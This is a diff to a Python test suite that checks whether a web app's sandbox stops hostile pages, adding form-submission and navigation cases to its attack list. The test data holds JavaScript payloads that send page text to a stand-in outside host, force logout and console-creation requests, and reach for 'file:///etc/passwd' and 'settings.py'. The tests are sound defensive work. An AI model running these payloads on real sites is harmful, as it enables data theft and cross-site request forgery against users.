@@ -280,7 +280,7 @@ TRIES = [
     "document.body.append(Object.assign(document.createElement('script'), {src: ELSEWHERE + '/script.js'}))",
     "for (const src of [ELSEWHERE + '/frame', OURS + '/user/alice/', 'about:blank#x']) document.body.append(Object.assign(document.createElement('iframe'), {src}))",
     "document.body.append(Object.assign(document.createElement('object'), {data: ELSEWHERE + '/object'}), Object.assign(document.createElement('embed'), {src: ELSEWHERE + '/embed'}))",
-    "for (const action of [ELSEWHERE + '/form', OURS + '/api/v0/user/alice/consoles/', OURS + '/accounts/logout/']) for (const method of ['get', 'post']) for (const target of ['', '_top', '_blank']) { const form = Object.assign(document.createElement('form'), {action, method, target}); document.body.append(form); form.submit() }",
+    "for (const action of [ELSEWHERE + '/form', OURS + '/api/v0/user/alice/consoles/', OURS + '/accounts/logout/']) for (const method of ['get', 'post']) for (const target of ['_top', '_parent', '_blank']) { const form = Object.assign(document.createElement('form'), {action, method, target}); document.body.append(form); form.submit() }",
     "import(ELSEWHERE + '/module.js').catch(() => 0)",
     "try { new Worker(ELSEWHERE + '/worker.js') } catch {}; new Worker(URL.createObjectURL(new Blob([`fetch('${ELSEWHERE}/inner').catch(() => 0); importScripts('${ELSEWHERE}/imported')`])))",
     "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + new URL(ELSEWHERE).port}]}).createDataChannel('x')",
@@ -329,24 +329,31 @@ def test_a_page_that_attacks_gets_nothing(alice: Person, elsewhere: Elsewhere, a
     is_unharmed(alice, url, elsewhere, asked_by_frames)
 
 
+FORM = "const form = Object.assign(document.createElement('form'), {method: 'METHOD', action: TO}); document.body.append(form); form.submit()"
+
+
 @pytest.mark.parametrize(
-    "to",
+    "leading",
     [
-        "ELSEWHERE + '/led?' + document.body.innerText",
-        "OURS + '/api/v0/user/alice/consoles/'",
-        "OURS + '/user/alice/'",
-        "OURS + '/accounts/logout/'",
-        "'data:text/html,<script>parent.document.title = 1</script>'",
-        "URL.createObjectURL(new Blob(['<script>fetch(`/api/v0/user/alice/consoles/`)</script>'], {type: 'text/html'}))",
-        "'javascript:parent.document.title = 1'",
-        "'file:///etc/passwd'",
-        "'view-source:' + OURS",
+        "location.href = ELSEWHERE + '/led?' + document.body.innerText",
+        "location.href = OURS + '/api/v0/user/alice/consoles/'",
+        "location.href = OURS + '/user/alice/'",
+        "location.href = OURS + '/accounts/logout/'",
+        "location.href = 'data:text/html,<script>parent.document.title = 1</script>'",
+        "location.href = URL.createObjectURL(new Blob(['<script>fetch(`/api/v0/user/alice/consoles/`)</script>'], {type: 'text/html'}))",
+        "location.href = 'javascript:parent.document.title = 1'",
+        "location.href = 'file:///etc/passwd'",
+        "location.href = 'settings.py'",
+        FORM.replace("METHOD", "get").replace("TO", "ELSEWHERE + '/form'"),
+        FORM.replace("METHOD", "post").replace("TO", "ELSEWHERE + '/form'"),
+        FORM.replace("METHOD", "post").replace("TO", "OURS + '/accounts/logout/'"),
+        FORM.replace("METHOD", "post").replace("TO", "OURS + '/api/v0/user/alice/consoles/'"),
     ],
 )
 def test_a_frame_cannot_lead_itself_out(
-    alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str], to: str
+    alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str], leading: str
 ) -> None:
-    url = hostile(alice, elsewhere, "leads.html", f"setTimeout(() => {{ location.href = {to} }}, 200)")
+    url = hostile(alice, elsewhere, "leads.html", f"setTimeout(() => {{ {leading} }}, 200)")
     is_unharmed(alice, url, elsewhere, asked_by_frames)
 
 
